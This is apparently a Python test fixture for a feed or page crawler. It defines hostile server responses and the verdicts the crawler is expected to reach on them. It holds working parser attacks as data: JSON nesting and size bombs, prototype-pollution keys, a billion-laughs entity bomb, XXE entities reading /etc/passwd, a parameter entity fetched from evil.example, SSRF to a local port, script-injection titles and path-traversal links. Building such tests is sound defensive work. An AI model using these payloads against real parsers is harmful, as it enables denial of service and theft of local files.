"""Data that misuses whoever reads it: JSON, feeds, directory indexes."""

from __future__ import annotations

import json

from tests.hostile.servers.item import PEOPLE, Hostile, made, page

JSON = "application/json"
RSS = "application/rss+xml"


def _records(*titles: str, **more: object) -> str:
    return json.dumps({"posts": [{"id": number, "title": title, **more} for number, title in enumerate(titles)]})


def _feed(items: str, prologue: str = "") -> str:
    return f'<?xml version="1.0"?>{prologue}<rss version="2.0"><channel><title>Leaks</title>{items}</channel></rss>'


def _items(*titles: str) -> str:
    shown = (title if "CDATA" in title else title.replace(" & ", " &amp; ") for title in titles)
    return "".join(f"<item><title>{title}</title><link>/v/{n}</link></item>" for n, title in enumerate(shown))


def _laughs() -> str:
    lines = ['<!ENTITY l0 "lol">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE rss [{''.join(lines)}]>"


JSONS = (
    Hostile(
        name="json-deep-objects",
        does="200,000 objects, one inside the other",
        answer=made(lambda: '{"a":' * 200_000, JSON),
        verdict="partial",
        why="json-not-finished",
    ),
    Hostile(
        name="json-deep-lists",
        does="500,000 lists, one inside the other, all closed",
        answer=made(lambda: "[" * 500_000 + "]" * 500_000, JSON),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="json-deep-record",
        does="a list of records, the last of them 100,000 deep",
        answer=made(lambda: _records(*PEOPLE)[:-2] + ',{"title":' + "[" * 100_000 + "]" * 100_000 + "}]}", JSON),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="json-huge-number",
        does="a number of a million digits in a record",
        answer=made(lambda: _records(*PEOPLE)[:-2] + ',{"title":"Z Ltd","id":' + "9" * 1_000_000 + "}]}", JSON),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="json-huge-exponent",
        does="numbers beyond every measure",
        answer=page(_records(*PEOPLE)[:-2] + ',{"title":"Z Ltd","id":1e999999,"n":-1e-999999}]}', JSON),
        verdict="listing",
    ),
    Hostile(
        name="json-not-a-number",
        does="NaN, infinities and lone surrogates",
        answer=page(_records(*PEOPLE)[:-2] + ',{"title":"Z \\ud800 Ltd","id":NaN,"n":-Infinity}]}', JSON),
        verdict="listing",
    ),
    Hostile(
        name="json-same-key",
        does="records with the same key a thousand times",
        answer=page(_records(*PEOPLE)[:-2] + ',{"title":"Z Ltd"' + ',"title":"Y Ltd"' * 1_000 + "}]}", JSON),
        verdict="listing",
    ),
    Hostile(
        name="json-prototype",
        does="keys that act in other languages",
        answer=page(_records(*PEOPLE, __proto__={"title": "x"}, constructor="x", __class__="x"), JSON),
        verdict="listing",
    ),
    Hostile(
        name="json-a-million-records",
        does="a million records of nothing",
        answer=made(lambda: "[" + "{}," * 1_000_000 + "{}]", JSON),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="json-a-million-keys",
        does="one record with a million keys",
        answer=made(lambda: "{" + ",".join(f'"k{n}":1' for n in range(900_000)) + "}", JSON),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="json-ever-more-pages",
        does="says that there are ten thousand million pages of it",
        answer=page(json.dumps({"page": 1, "total_pages": 10**10, "total": 10**12, "per_page": 5, "data": [
            {"id": n, "title": title} for n, title in enumerate(PEOPLE)]}), JSON),
        verdict="listing",
        may_ask=("/?page=*",),
        at_most=200,
    ),
    Hostile(
        name="json-next-elsewhere",
        does="names a next page on this machine",
        answer=page(json.dumps({"next": "http://127.0.0.1:9051/", "data": [
            {"id": n, "title": title} for n, title in enumerate(PEOPLE)]}), JSON),
        verdict="listing",
        at_most=1,
    ),
)  # fmt: skip

FEEDS = (
    Hostile(
        name="feed-billion-laughs",
        does="a feed whose one title is three thousand million letters",
        answer=page(_feed(_items("&l9;", *PEOPLE), _laughs()), RSS),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="feed-quadratic",
        does="a feed that names one long entity ten thousand times",
        answer=made(lambda: _feed(_items("&a;" * 10_000), f'<!DOCTYPE rss [<!ENTITY a "{"x" * 100_000}">]>'), RSS),
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="feed-external-file",
        does="a feed whose title is a file of this machine",
        answer=page(_feed(_items("&x;", *PEOPLE), '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), RSS),
        at_most=1,
        verdict="unreadable",
        why="no-entries-found",
    ),
    Hostile(
        name="feed-external-address",
        does="a feed with a title and a grammar from the clearnet",
        answer=page(
            _feed(
                _items("&x;", *PEOPLE),
                '<!DOCTYPE rss SYSTEM "/grammar.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;'
                '<!ENTITY x SYSTEM "http://127.0.0.1:9051/">]>',
            ),
            RSS,
        ),
        verdict="unreadable",
        why="no-entries-found",
        at_most=1,
    ),
    Hostile(
        name="feed-stylesheet",
        does="a feed with a style sheet, an include and a base to be fetched",
        answer=page(
            _feed(
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
                + _items(*PEOPLE),
                '<?xml-stylesheet href="/style.xsl" type="text/xsl"?>',
            ),
            RSS,
        ),
        verdict="listing",
        at_most=1,
    ),
    Hostile(
        name="feed-nested",
        does="a feed with 100,000 elements, one inside the other",
        answer=made(lambda: _feed("<item>" + "<title>" * 100_000), RSS),
        verdict="partial",
        why="xml-not-finished",
    ),
    Hostile(
        name="feed-markup-in-titles",
        does="a feed with pages of markup in its titles",
        answer=page(
            _feed(
                _items(*(f"<![CDATA[<script>alert(1)</script>{title}<img src=x onerror=a()>]]>" for title in PEOPLE))
            ),
            RSS,
        ),
        verdict="listing",
    ),
    Hostile(
        name="index-of-traps",
        does="a directory index whose files lead up, out and away",
        answer=page(
            "<html><head><title>Index of /</title></head><body><h1>Index of /</h1><pre>"
            '<a href="../">../</a>\n<a href="/../../etc/passwd">passwd</a> 2026-01-01 10:00 1K\n'
            '<a href="http://127.0.0.1:9051/">router</a> 2026-01-01 10:00 1K\n'
            '<a href="javascript:x">x</a> 2026-01-01 10:00 1K\n<a href="acme.7z">acme.7z</a> 2026-01-01 10:00 90G\n'
            "</pre></body></html>"
        ),
        verdict="listing",
        at_most=1,
    ),
)
